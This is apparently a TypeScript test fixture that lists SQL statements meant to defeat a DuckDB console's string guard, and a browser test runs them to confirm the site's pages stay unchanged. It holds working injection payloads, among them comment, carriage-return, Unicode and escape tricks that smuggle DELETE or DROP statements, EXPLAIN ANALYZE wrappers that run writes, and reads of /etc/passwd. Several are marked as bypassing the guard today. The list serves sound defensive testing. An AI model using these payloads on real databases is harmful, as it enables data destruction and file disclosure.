/**
 * Statements that try to make the SQL console change what the pages show, or
 * what the console itself answers afterwards (issue 18, part 1). The browser
 * test (tests/browser/console-attacks.test.ts) runs every one through the
 * console and then compares every figure of `/` and `/recommendations` with
 * native DuckDB; a soak script can run the same list.
 *
 * Many are refused by the string guard before they reach DuckDB; that is not
 * what keeps the pages safe. The ones marked `reachesEngine` pass the guard
 * today (its blind spots, reproduced in issue 18) and run on the console's
 * own DuckDB instance: those show that the engine, not the guard, holds.
 */
export interface ConsoleAttack {
	/** What it tries. */
	readonly aim: string;
	readonly sql: string;
	/** Passes explore-sql-guard today, so DuckDB itself must hold. */
	readonly reachesEngine?: true;
}

export const CONSOLE_ATTACKS: readonly ConsoleAttack[] = [
	// The three bypasses of the string guard reported in issue 18.
	{
		aim: 'EXPLAIN ANALYZE runs the UPDATE it wraps',
		sql: "EXPLAIN ANALYZE UPDATE recommendations SET text = 'x'",
		reachesEngine: true
	},
	{
		aim: 'a -- comment ended by a carriage return hides a second statement',
		sql: 'SELECT 1 AS n; --\rDELETE FROM recommendations',
		reachesEngine: true
	},
	{
		aim: "E'\\'' confuses the guard's tokenizer",
		sql: "SELECT E'\\'' ; UPDATE recommendations SET text='x'; --'",
		reachesEngine: true
	},

	// Data changes.
	{ aim: 'delete every recommendation', sql: 'DELETE FROM recommendations' },
	{
		aim: 'rewrite every status span',
		sql: "UPDATE recommendation_spans SET status = 'implemented'"
	},
	{ aim: 'double the assessments', sql: 'INSERT INTO assessments SELECT * FROM assessments' },
	{ aim: 'empty a table', sql: 'TRUNCATE recommendation_status' },
	{ aim: 'a write behind WITH', sql: 'WITH x AS (SELECT 1) DELETE FROM recommendations' },
	{
		aim: 'EXPLAIN ANALYZE runs a DELETE',
		sql: 'EXPLAIN ANALYZE DELETE FROM recommendation_spans',
		reachesEngine: true
	},
	{
		aim: 'EXPLAIN ANALYZE runs an INSERT',
		sql: 'EXPLAIN ANALYZE INSERT INTO assessments SELECT * FROM assessments',
		reachesEngine: true
	},
	{
		aim: 'EXPLAIN ANALYZE moves every State to one region',
		sql: "EXPLAIN ANALYZE UPDATE member_states SET region = 'Europe'",
		reachesEngine: true
	},

	// Tables, views and schemas.
	{ aim: 'drop a table', sql: 'DROP TABLE recommendations' },
	{
		aim: 'EXPLAIN ANALYZE runs a DROP',
		sql: 'EXPLAIN ANALYZE DROP TABLE recommendation_milestones',
		reachesEngine: true
	},
	{
		aim: 'EXPLAIN ANALYZE replaces a table with an empty one',
		sql: 'EXPLAIN ANALYZE CREATE OR REPLACE TABLE recommendations AS SELECT * FROM recommendations WHERE false',
		reachesEngine: true
	},
	{
		aim: 'a temporary table shadowing a page table',
		sql: 'EXPLAIN ANALYZE CREATE TEMP TABLE assessments AS SELECT * FROM assessments LIMIT 0',
		reachesEngine: true
	},
	{ aim: 'rename a table', sql: 'ALTER TABLE recommendations RENAME TO r2' },
	{ aim: 'a view', sql: 'CREATE VIEW v AS SELECT 1 AS n' },
	{ aim: 'a schema', sql: 'CREATE SCHEMA s' },

	// Macros shadowing built-ins.
	{ aim: 'a global macro shadowing year()', sql: 'CREATE MACRO year(x) AS 1900' },
	{
		aim: 'EXPLAIN ANALYZE creates a macro shadowing year()',
		sql: 'EXPLAIN ANALYZE CREATE OR REPLACE MACRO year(x) AS 1900',
		reachesEngine: true
	},
	{
		aim: 'EXPLAIN ANALYZE creates a macro shadowing coalesce()',
		sql: 'EXPLAIN ANALYZE CREATE OR REPLACE MACRO coalesce(a, b) AS 0',
		reachesEngine: true
	},
	{ aim: 'a temporary macro', sql: 'CREATE TEMP MACRO date_diff(a, b, c) AS 0' },
	{ aim: 'a table macro named like a table', sql: 'CREATE MACRO assessments() AS TABLE SELECT 1' },

	// PRAGMA and settings.
	{ aim: 'turn the optimizer off', sql: 'PRAGMA disable_optimizer' },
	{ aim: 'a tiny memory limit by PRAGMA', sql: "PRAGMA memory_limit = '1MB'" },
	{ aim: 'file access back on', sql: 'SET enable_external_access = true' },
	{ aim: 'unlock the configuration', sql: 'SET lock_configuration = false' },
	{ aim: 'reset the lock', sql: 'RESET lock_configuration' },
	{ aim: 'a variable', sql: 'SET VARIABLE d = 1' },
	{ aim: 'a search path to another catalog', sql: "SET search_path = 'temp'" },
	{ aim: 'one thread for everyone', sql: 'SET GLOBAL threads = 1' },

	// Other databases.
	{ aim: 'attach an in-memory database', sql: "ATTACH ':memory:' AS m" },
	{ aim: 'attach a remote database', sql: "ATTACH 'http://example.org/x.duckdb' AS r" },
	{ aim: 'detach the default database', sql: 'DETACH memory' },
	{ aim: 'switch the default database', sql: 'USE system' },

	// Files.
	{ aim: 'write a file', sql: "COPY recommendations TO 'out.csv'" },
	{ aim: 'read rows in from a file', sql: "COPY recommendations FROM 'x.csv'" },
	{ aim: 'export the database', sql: "EXPORT DATABASE 'dump'" },
	{ aim: 'import a database', sql: "IMPORT DATABASE 'dump'" },

	// Extensions.
	{ aim: 'install an extension', sql: 'INSTALL httpfs' },
	{ aim: 'load an extension', sql: 'LOAD httpfs' },
	{ aim: 'install from another host', sql: "FORCE INSTALL httpfs FROM 'http://example.org'" },
	{ aim: 'update extensions', sql: 'UPDATE EXTENSIONS' },

	// Table functions.
	{ aim: 'read a local file', sql: "SELECT * FROM read_csv('/etc/passwd')" },
	{ aim: 'read a text file', sql: "SELECT * FROM read_text('/etc/passwd')" },
	{ aim: 'list files', sql: "SELECT * FROM glob('*')" },
	{ aim: 'a file by replacement scan', sql: "SELECT * FROM 'manifest.json'" },
	{
		aim: 'a write inside query()',
		sql: "SELECT * FROM query('DELETE FROM recommendations')",
		reachesEngine: true
	},
	{
		aim: 'read the served extract over HTTP',
		sql: "SELECT * FROM read_parquet('http://127.0.0.1/data/recommendations.parquet')"
	},

	// Transactions and prepared statements.
	{ aim: 'commit the run', sql: 'COMMIT' },
	{ aim: 'roll the run back early', sql: 'ROLLBACK' },
	{ aim: 'a transaction of its own', sql: 'BEGIN TRANSACTION' },
	{ aim: 'a prepared DELETE', sql: 'PREPARE p AS DELETE FROM recommendations' },
	{ aim: 'run that prepared DELETE', sql: 'EXECUTE p' },

	// Unicode and comment tricks.
	{
		aim: 'a block comment before a second statement',
		sql: 'SELECT 1 /* ; */ ; DELETE FROM assessments'
	},
	{ aim: 'a dollar-quoted semicolon', sql: 'SELECT $$;$$; DELETE FROM assessments' },
	{ aim: 'a quoted name holding a semicolon', sql: 'SELECT 1 AS "a;b"; DROP TABLE member_states' },
	{
		aim: 'a nested block comment (DuckDB nests them, the guard does not)',
		sql: '/* a /* b */ ; DELETE FROM recommendations */ SELECT 1 AS n'
	},
	{
		aim: 'a carriage-return comment without a semicolon',
		sql: 'SELECT 1 AS n --\rDELETE FROM recommendations',
		reachesEngine: true
	},
	{
		aim: 'a backslash escape closing the string early',
		sql: "SELECT E'\\'' ; DROP TABLE assessments; --'",
		reachesEngine: true
	},
	{
		aim: 'a no-break space after the semicolon',
		sql: 'SELECT 1;\u00a0DELETE FROM recommendations'
	},
	{ aim: 'a zero-width space after the semicolon', sql: 'SELECT 1;\u200bDROP TABLE member_states' },
	{
		aim: 'a right-to-left override in a string',
		sql: "SELECT '\u202e'; DROP TABLE recommendations"
	},
	{ aim: 'full-width letters', sql: 'ＤＥＬＥＴＥ FROM recommendations' },
	{
		aim: 'a line separator ending a comment',
		sql: 'SELECT 1 --\u2028; DELETE FROM recommendations',
		reachesEngine: true
	},
	{ aim: 'a Unicode escape for a quote', sql: "SELECT U&'\\0027'; DELETE FROM recommendations" }
];
